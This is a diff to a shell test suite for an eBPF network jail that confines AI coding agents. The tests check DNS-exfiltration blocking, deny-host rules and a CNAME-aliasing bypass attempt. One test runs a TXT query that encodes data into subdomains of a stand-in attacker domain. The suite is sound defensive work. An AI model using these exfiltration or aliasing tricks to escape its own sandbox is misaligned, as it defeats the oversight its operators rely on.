@@ -174,8 +174,10 @@ test_internet_off_never_carries_a_name_out() {
 		fail "exit summary: $(cat "$T/jail.err")"
 	audit
 	expect_out "dns    $s1.$s2.exfil.attacker.test TXT  dns           dns         internet-off"
+	# The agent's names are never proposed: their DNS would decide.
 	audit --suggest
-	expect_out "allow-host = $s1.$s2.exfil.attacker.test"
+	expect_out "# not suggested: 3 DNS queries for names outside your network's domains (first: $s1.$s2.exfil.attacker.test)"
+	! grep -q '^allow-host' "$T/out" || fail "suggested the agent's own name: $(cat "$T/out")"
 	# The control: internet = on asks the resolver for the same.
 	jail -- sh -c "$q TXT $s1.$s2.exfil.attacker.test >/dev/null"
 	resolver_saw "$s1.$s2.exfil.attacker.test" || fail "the control query never reached the resolver"
@@ -205,13 +207,84 @@ test_a_profile_opens_its_names_on_their_ports_and_never_the_lan() {
 		fail "the LAN answer was not refused: $(grep statsig "$T/audit.jsonl")"
 	run "$EBPFJAIL" config --config "$T/jail.conf" --profile claude-code
 	expect_rc 0
-	grep -qE "^allow-host = api.anthropic.com:443 +# $BUILD/profiles/claude-code.conf:[0-9]+$" "$T/out" ||
+	grep -qE "^# allow-host = api.anthropic.com:443 +# $BUILD/profiles/claude-code.conf:[0-9]+$" "$T/out" ||
 		fail "config: $(cat "$T/out" "$T/err")"
 	expect_out "profile = claude-code"
 	run "$EBPFJAIL" config --config "$T/jail.conf" --profile no-such
 	expect_rc 1
 	grep -q "profile no-such: no such profile ($BUILD/profiles/no-such.conf)" "$T/err" ||
 		fail "no error for a missing profile: $(cat "$T/err")"
+	expect_no_leftovers
+}
+
+# deny-host with the internet open: the name is refused, and the address
+# its answer gives (the forwarder asks for it itself) is blocked, so the
+# agent cannot reach it by another name that shares it (an allow-host
+# name, a CDN) nor by the address it knew; allow-ip wins. The controls:
+# the same address is reached before the deny learned it, and with an
+# allow-ip for it after.
+test_deny_host_refuses_the_name_and_blocks_its_address() {
+	netsim_up
+	mkdir "$T/agent" && chown 4242 "$T/agent"
+	echo "198.51.100.7 www.paste.test" | resolver_hosts
+	local job i
+	for allow in "" "--allow-ip 198.51.100.7"; do
+		rm -f "$T/agent/asked" "$T/agent/go"
+		cat >"$T/agent.sh" <<-EOF
+			$T/probe tcp:198.51.100.7:80 >$T/agent/before
+			dig +tries=1 +time=3 www.paste.test >$T/agent/dig
+			touch $T/agent/asked
+			for i in \$(seq 1 100); do [ -e $T/agent/go ] && break; sleep 0.05; done
+			$T/probe tcp:198.51.100.7:80 dnsconnect:web.example.test:80
+		EOF
+		jail_cmd --deny-host '*.paste.test' --allow-host web.example.test $allow -- \
+			sh "$T/agent.sh" >"$T/jail.out" 2>"$T/jail.err" &
+		job=$!
+		for i in $(seq 1 100); do
+			grep -q '"policy": "deny-host", "change": "www.paste.test blocked for 3600 s: 198.51.100.7"' \
+				"$T/audit.jsonl" 2>/dev/null && break
+			sleep 0.05
+		done
+		touch "$T/agent/go"
+		wait "$job" || fail "the jail failed: $(cat "$T/jail.err")"
+		grep -q '^tcp:198.51.100.7:80 ok' "$T/agent/before" || fail "the control: $(cat "$T/agent/before")"
+		grep -q 'status: REFUSED' "$T/agent/dig" || fail "not refused: $(cat "$T/agent/dig")"
+		resolver_saw www.paste.test || fail "the forwarder never asked for the denied name's address"
+		grep -q '"policy": "deny-host"' "$T/audit.jsonl" || fail "no deny-host record: $(cat "$T/audit.jsonl")"
+		cp "$T/jail.out" "$T/out"
+		if [ -z "$allow" ]; then
+			expect_denied tcp:198.51.100.7:80
+			expect_denied dnsconnect:web.example.test:80 EHOSTUNREACH
+		else
+			expect_result tcp:198.51.100.7:80 ok
+			expect_result dnsconnect:web.example.test:80 ok
+		fi
+	done
+	grep -qF '"name": "www.paste.test", "qtype": "A", "hook": "dns", "reason": "dns", "rule": "deny-host"' \
+		"$T/audit.jsonl" || fail "no dns denial: $(grep '"proto": "dns"' "$T/audit.jsonl")"
+	expect_no_leftovers
+}
+
+# The attack on deny-host: an allowed name of the agent's choosing as a
+# CNAME of the denied one (alias.lan.test -> forge.lan.test). The answer's
+# chain reaches the denied name: its addresses are blocked before the
+# answer is released, never allowed. The control: without the deny the
+# same alias opens the forge.
+test_a_cname_to_a_denied_name_opens_nothing() {
+	netsim_up
+	local deny
+	for deny in "" "--deny-host forge.lan.test"; do
+		jail --allow-host alias.lan.test $deny -- sh -c \
+			"$DIG alias.lan.test >/dev/null; \"$T/probe\" tcp:10.23.0.80:22"
+		expect_rc 0
+		if [ -z "$deny" ]; then
+			expect_result tcp:10.23.0.80:22 ok
+		else
+			expect_denied tcp:10.23.0.80:22
+		fi
+	done
+	grep -q '"policy": "deny-host", "change": "alias.lan.test blocked for 5 s: 10.23.0.80"' \
+		"$T/audit.jsonl" || fail "no deny-host record: $(grep policy "$T/audit.jsonl")"
 	expect_no_leftovers
 }
 
